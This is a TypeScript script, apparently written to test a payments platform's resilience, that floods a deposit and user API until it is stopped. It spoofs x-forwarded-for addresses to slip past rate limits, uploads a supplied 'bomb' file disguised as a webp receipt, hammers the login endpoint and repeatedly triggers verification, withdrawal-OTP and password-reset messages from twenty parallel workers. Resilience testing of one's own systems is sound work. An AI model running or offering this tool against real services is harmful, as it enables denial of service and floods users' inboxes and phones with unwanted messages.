import { createHash } from "node:crypto";
import { readFileSync } from "node:fs";

/** A program that floods a provider until it is killed: `node flood.ts KIND URL [FILE]`. */
const [kind = "", url = "", file = ""] = process.argv.slice(2);
const AT_ONCE = 20;
const PASSWORD = "Sandbox-2026!";
const digest = (clear: string) => createHash("md5").update(clear).digest("hex");

/** Returns a header with a new address for each request, as a proxy would send it. */
const address = () => ({ "x-forwarded-for": `203.0.113.${Math.floor(Math.random() * 256)}` });

const send = (path: string, body: unknown, headers: Record<string, string> = {}) =>
  fetch(url + path, {
    method: "POST",
    headers: { "content-type": "application/json", ...address(), ...headers },
    body: JSON.stringify(body),
  });

/** Signs in, and returns the cookie and the user. */
async function signIn(email: string) {
  const response = await send("/api/User/UserLogin", { companyId: 9, email, password: digest(PASSWORD) });
  const cookie = response.headers.getSetCookie().at(-1)?.split(";")[0] ?? "";
  const answer: unknown = await response.json();
  const user: unknown = Reflect.get(Object(answer), "data");
  const field = (name: string) => String(Reflect.get(Object(user), name));
  return { headers: { cookie }, userId: Number(field("staffUserId")), username: field("username") };
}

async function fileBombs(): Promise<() => Promise<unknown>> {
  const { headers, userId, username } = await signIn("demo@example.com");
  const bomb = new Blob([new Uint8Array(readFileSync(file))], { type: "image/webp" });
  const order = {
    companyId: 9,
    userId,
    currencyCode: "MYR",
    paymentPlatformId: 11,
    amount: 447,
    amountUsd: 100,
  };
  return async () => {
    const opened: unknown = await (
      await send("/api/Deposit/DepositRequest", { ...order, username }, headers)
    ).json();
    const transactionId: unknown = Reflect.get(Object(Reflect.get(Object(opened), "data")), "transactionId");
    const form = new FormData();
    for (const [name, value] of Object.entries({ ...order, transactionId })) form.set(name, String(value));
    form.set("receipt", bomb, "flat.webp");
    return (await fetch(`${url}/api/Deposit/SubmitDeposit`, { method: "POST", headers, body: form })).text();
  };
}

async function lists(): Promise<() => Promise<unknown>> {
  const { headers, userId } = await signIn("busy@example.com");
  const path = `${url}/api/Deposit/GetDepositTransactionsByUser?userId=${userId}`;
  return async () => (await fetch(path, { headers })).arrayBuffer();
}

async function signIns(): Promise<() => Promise<unknown>> {
  return async () => {
    const email = `${crypto.randomUUID()}@example.com`;
    return (await send("/api/User/UserLogin", { companyId: 9, email, password: digest("wrong") })).text();
  };
}

/** Creates accounts that sign in with their right passwords, each from another address. */
async function rightSignIns(): Promise<() => Promise<unknown>> {
  const emails = ["demo", "busy", "fresh"].map((name) => `${name}@example.com`);
  let turn = 0;
  return () => signIn(emails[(turn += 1) % emails.length] ?? "demo@example.com");
}

async function letters(): Promise<() => Promise<unknown>> {
  const demo = await signIn("demo@example.com");
  const fresh = await signIn("fresh@example.com");
  return async () => {
    await send("/api/User/ResendVerificationEmail", { userId: fresh.userId }, fresh.headers);
    await send("/api/Withdrawal/RequestOtpWithdrawal", { userId: demo.userId }, demo.headers);
    return send("/api/User/ResetUserPassword", { companyId: 9, email: "demo@example.com" });
  };
}

const floods = { fileBombs, lists, signIns, rightSignIns, letters };
/** The kind of a flood. */
export type Flood = keyof typeof floods;
const isFlood = (word: string): word is Flood => Object.hasOwn(floods, word);

if (isFlood(kind)) {
  const once = await floods[kind]();
  process.stdout.write("begun\n");
  const worker = async (): Promise<never> => {
    for (;;) {
      await once().catch(() => null);
      // Refused requests are repeated soon, but not in a loop that uses the whole processor.
      await new Promise((resolve) => setTimeout(resolve, 10));
    }
  };
  await Promise.all(Array.from({ length: AT_ONCE }, worker));
}
